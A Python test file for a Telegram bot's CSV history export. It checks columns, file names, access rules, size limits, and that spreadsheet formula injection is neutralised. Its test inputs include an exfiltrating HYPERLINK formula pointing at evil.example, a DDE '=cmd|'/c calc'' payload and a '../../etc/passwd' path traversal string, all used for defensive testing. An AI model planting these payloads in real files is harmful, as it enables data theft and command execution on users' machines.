"""Export: the file has just what the ledger says, and a spreadsheet reads just what is in it."""

import csv
import shutil
import subprocess
from datetime import timedelta
from io import StringIO
from pathlib import Path
from zipfile import ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from handlers.screens import export
from handlers.screens.export import harmless
from handlers.screens.files import slug
from plans.commands.operate import Assign, End
from plans.names import clean_name
from plans.plan import Plan, Renewal
from plans.term import Term
from plans.text import LocalText
from sandbox.answers import Call
from storage.changes.statements import periods as histories
from tests.conversation import Actor, House
from tests.handlers.conftest import choose, plain_plan, preview

DAY = timedelta(days=1)
HEADERS = [
    "Number",
    "Decision",
    "Plan",
    "Plan code",
    "Plan version",
    "Status",
    "Decided at (UTC)",
    "From (UTC)",
    "Until, as decided (UTC)",
    "Until, in fact (UTC)",
    "Renews by itself",
    "Current term until (UTC)",
    "By",
    "Through",
    "Reason",
]
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Gold")',
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    " =1+1",
    "＝1+1",
    "'=1",
    'quote " and, comma; and',
    "007",
    "1/2",
    "2026-03-02",
    "1e5",
    "TRUE",
    "الذهبية 2026",
    "Золотой",
    "🦊 _x_ $y$ \\frac",
)


async def test_an_owner_gets_the_whole_ledger_as_a_file(house: House, owner: Actor) -> None:
    [business] = await house.book.members.businesses(house.now)
    await choose(owner, "Gold")
    house.clock.move(DAY)
    await preview(owner, "Silver")
    await owner.taps("Start now", "Confirm")
    house.clock.move(timedelta(minutes=1))
    await owner.taps("Undo")
    house.clock.move(DAY)
    await house.book.changes.operate(business.id, End("Contract ended"), house.now)
    await owner.sends("/history")
    shown = owner.screen
    await owner.taps("Export")
    assert owner.screen.id > shown.id, "a message of its own"
    owner.sees("History · Olivia Owner", "2 entries, 4 changes, up to 4 Mar 2026, 09:01 UTC.")
    assert _sent(house)["file_name"] == "partner-plans-olivia-owner-2026-03-04.csv"
    header, *rows = _cells(house)
    assert header == HEADERS
    assert [row[:6] for row in rows] == [
        ["1", "Chosen", "Gold", "gold", "1", "Ended"],
        ["2", "Chosen", "Silver", "silver", "1", "Undone"],
        ["3", "Undone", "", "", "", ""],
        ["4", "Ended", "", "", "", ""],
    ]
    day = "2026-03-0{}T09:0{}:00+00:00".format
    assert [row[6:10] for row in rows] == [
        [day(2, 0), day(2, 0), "2026-04-02T09:00:00+00:00", day(4, 1)],
        [day(3, 0), day(3, 0), "", day(3, 1)],
        [day(3, 1), day(3, 1), "", ""],
        [day(4, 1), day(4, 1), "", ""],
    ]
    assert [row[10:12] for row in rows] == [["no", ""], ["no", ""], ["", ""], ["", ""]]
    assert [row[12:] for row in rows] == [
        *[["Olivia Owner", "in the chat", ""]] * 3,
        ["our team", "on the command line", "Contract ended"],
    ]


async def test_history_and_export_count_alike(house: House, owner: Actor) -> None:
    for plan in ("Starter", "Silver"):
        await choose(owner, plan)
    await owner.taps("Undo")
    await owner.sends("/history")
    owner.sees("2 entries, 3 changes")
    await owner.taps("Export")
    owner.sees("2 entries, 3 changes, up to")
    _, *rows = _cells(house)
    assert len(rows) == 3
    assert sum(row[5] != "" for row in rows) == 2


async def test_a_long_history_is_counted_on_every_page(house: House, owner: Actor) -> None:
    for number in range(7):
        house.clock.move(DAY)
        await choose(owner, ("Starter", "Silver")[number % 2])
    await owner.sends("/history")
    owner.sees("7 entries, 7 changes")
    await owner.taps("Older")
    owner.sees("7 entries, 7 changes")


async def test_the_file_says_what_renews_and_until_when_a_term_runs(
    house: House, owner: Actor
) -> None:
    monthly = plain_plan(1, term=Term.parse("P1M"), renewal=Renewal.AUTOMATIC)
    await house.publish((monthly, plain_plan(2, term=Term.parse("P1Y"))))
    await choose(owner, "Plan 01")
    house.clock.move(40 * DAY)
    assert await _renewals(house, owner) == [["yes", "2026-05-02T09:00:00+00:00"]]
    await owner.sends("/plan")
    await owner.taps("Turn off renewal", "Confirm")
    off = await _renewals(house, owner)
    assert off[0] == ["no", "2026-05-02T09:00:00+00:00"]


async def _renewals(house: House, owner: Actor) -> list[list[str]]:
    await owner.sends("/history")
    await owner.taps("Export")
    return [row[10:12] for row in _cells(house)[1:]]


@pytest.mark.parametrize(
    ("name", "called"),
    [
        ("Corner Café", "corner-cafe"),
        ("  A/B\\C: *what?*  ", "a-b-c-what"),
        ("Кафе «Уголок»", "кафе-уголок"),
        ("مقهى الزاوية", "مقهى-الزاوية"),
        ("हिन्दी भोजनालय", "हिन्दी-भोजनालय"),
        ("Ümit'in Çay Bahçesi", "umit-in-cay-bahcesi"),
        ("../../etc/passwd", "etc-passwd"),
        ("🦊", ""),
        ("W" * 64, "w" * 40),
    ],
)
def test_files_are_called_after_the_business(name: str, called: str) -> None:
    assert slug(name) == called


async def test_a_business_of_signs_alone_gets_a_file_with_a_name(house: House) -> None:
    owner = await house.owner("🦊🦊")
    [business] = await house.book.members.businesses(house.now)
    await choose(owner, "Starter")
    await owner.sends("/history")
    await owner.taps("Export")
    assert _sent(house)["file_name"] == f"partner-plans-{business.id}-2026-03-02.csv"


async def test_the_file_is_as_spreadsheets_expect_it(house: House, owner: Actor) -> None:
    await choose(owner, "Starter")
    await owner.sends("/history")
    await owner.taps("Export")
    content = _content(house)
    assert content.startswith(b'\xef\xbb\xbf"Number","Decision"')
    assert content.endswith(b"\r\n")
    assert content.count(b"\n") == content.count(b"\r\n") == 2


async def test_approvals_and_gifts_are_called_so(house: House, owner: Actor) -> None:
    petra = await house.operator()
    [business] = await house.book.members.businesses(house.now)
    await house.book.changes.operate(business.id, Assign("silver", "A gift"), house.now)
    await owner.sends("/plan")
    await owner.taps("Change plan", "Platinum", "Request approval")
    await house.post()
    await petra.taps("Approve")
    await owner.sends("/history")
    await owner.taps("Export")
    _, *rows = _cells(house)
    assert [(row[1], row[3], row[5]) for row in rows] == [
        ("Assigned", "silver", "Replaced"),
        ("Requested", "platinum", ""),
        ("Approved", "platinum", "Active"),
    ]
    assert rows[2][12:14] == ["Petra Operator (our team)", "in the operators' chat"]


async def test_a_viewer_may_have_it_too(house: House, owner: Actor) -> None:
    await choose(owner, "Starter")
    viewer = await house.viewer_of(owner)
    await viewer.sends("/history")
    await viewer.taps("Export")
    assert len(_cells(house)) == 2


async def test_whoever_is_no_member_gets_nothing(house: House, owner: Actor) -> None:
    await choose(owner, "Starter")
    await owner.sends("/history")
    buttons = [owner.data("Export"), owner.data("Timeline")]
    sam, gone = house.person("Sam Stranger"), await house.viewer_of(owner)
    await house.leave_all(gone)
    for nobody in (sam, gone):
        await nobody.sends("/start")
        for data in buttons:
            await nobody.forges(data)
            nobody.sees("a business you are not in")
    assert not _files(house)


async def test_of_an_empty_history_there_is_nothing_to_take_away(
    house: House, owner: Actor
) -> None:
    [business] = await house.book.members.businesses(house.now)
    await owner.sends("/history")
    assert owner.labels == ["Back"]
    for data in (f"ex:{business.id}", f"tl:{business.id}"):
        await owner.forges(data)
        owner.sees("No plans yet")
    assert not _files(house)


async def test_a_file_that_telegram_would_not_take_is_not_sent(
    house: House, owner: Actor, monkeypatch: pytest.MonkeyPatch
) -> None:
    await choose(owner, "Starter")
    await owner.sends("/history")
    shown = owner.text
    monkeypatch.setattr(export, "LARGEST", 100)
    await owner.taps("Export")
    assert owner.toast == (
        "This history is too long for a file in a chat. Please ask our support for it."
    )
    assert owner.text == shown
    monkeypatch.undo()
    monkeypatch.setattr(histories, "MOST_IN_A_LEDGER", 0)
    await owner.taps("Export")
    assert "too long" in (owner.toast or "")
    assert not _files(house)


async def test_a_ledger_read_in_many_pieces_is_whole(
    house: House, owner: Actor, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(histories, "AT_ONCE", 3)
    for number in range(7):
        house.clock.move(DAY)
        await choose(owner, ("Starter", "Silver")[number % 2])
    await owner.sends("/history")
    await owner.taps("Export")
    assert [row[0] for row in _cells(house)[1:]] == [str(number) for number in range(1, 8)]


@given(st.text())
def test_no_cell_can_be_a_formula(text: str) -> None:
    cell = harmless(text)
    assert cell.removeprefix("'") == text.removeprefix("'") or cell == text
    assert not cell.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
    assert not cell.startswith(("\t", "\r", "\n"))


async def test_hostile_names_are_texts_in_the_file(house: House, owner: Actor) -> None:
    await _choose_all_hostile(house, owner)
    assert [row[2] for row in _cells(house)[1:]] == [harmless(name) for name in HOSTILE]


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
async def test_libreoffice_reads_the_same_cells(house: House, owner: Actor, tmp_path: Path) -> None:
    await _choose_all_hostile(house, owner)
    source = tmp_path / "history.csv"
    source.write_bytes(_content(house))
    as_texts = ",,0,true"  # what is in quotes is a text; else 007 is read as 7, as anywhere
    again = _converted(source, "csv:Text - txt - csv (StarCalc):44,34,76,1", as_texts)
    with again.open(encoding="utf-8-sig", newline="") as file:
        assert list(csv.reader(file)) == _cells(house)
    assert "<f" not in _sheet(_converted(source, "xlsx", ""))
    source.write_text('"=1+1"\r\n')
    assert "<f" in _sheet(_converted(source, "xlsx", "")), (
        "LibreOffice would take a formula for one"
    )


def _converted(source: Path, to: str, reading: str) -> Path:
    """What LibreOffice writes of a CSV file (commas, quotes, UTF-8, all lines) it has read."""
    out = source.parent / "out"
    subprocess.run(  # noqa: S603 - a command of our own
        [  # noqa: S607 - wherever it is installed
            "soffice",
            f"-env:UserInstallation=file://{source.parent}/profile",
            "--headless",
            f"--infilter=CSV:44,34,76,1{reading}",
            "--convert-to",
            to,
            "--outdir",
            str(out),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=200,
    )
    return out / source.with_suffix(f".{to[:4].rstrip(':')}").name


def _sheet(file: Path) -> str:
    with ZipFile(file) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


async def _choose_all_hostile(house: House, owner: Actor) -> None:
    """An export of a history in which plans of all these names were chosen one by one."""
    assert all(clean_name(name) in (name, name.strip()) for name in HOSTILE)
    plans = [_named(number, name) for number, name in enumerate(HOSTILE)]
    await house.publish(tuple(plans))
    [business] = await house.book.members.businesses(house.now)
    for plan in plans:
        house.clock.move(DAY)
        await house.book.changes.operate(
            business.id, Assign(plan.code, "=cmd|'/c calc'!A1"), house.now
        )
    await owner.sends("/history")
    await owner.taps("Export")


def _named(number: int, name: str) -> Plan:
    return plain_plan(number, name=LocalText.of(name))


def _files(house: House) -> list[Call]:
    return [one for one in house.telegram.calls if one.method in ("sendDocument", "sendPhoto")]


def _content(house: House) -> bytes:
    """The file that was sent last, as it arrived."""
    stored = house.telegram.world.files.find(_sent(house)["file_id"])
    assert stored is not None
    return stored.upload.data


def _sent(house: House) -> dict[str, str]:
    document: dict[str, str] = _files(house)[-1].answer["result"]["document"]
    return document


def _cells(house: House) -> list[list[str]]:
    return list(csv.reader(StringIO(_content(house).decode("utf-8-sig"), newline="")))
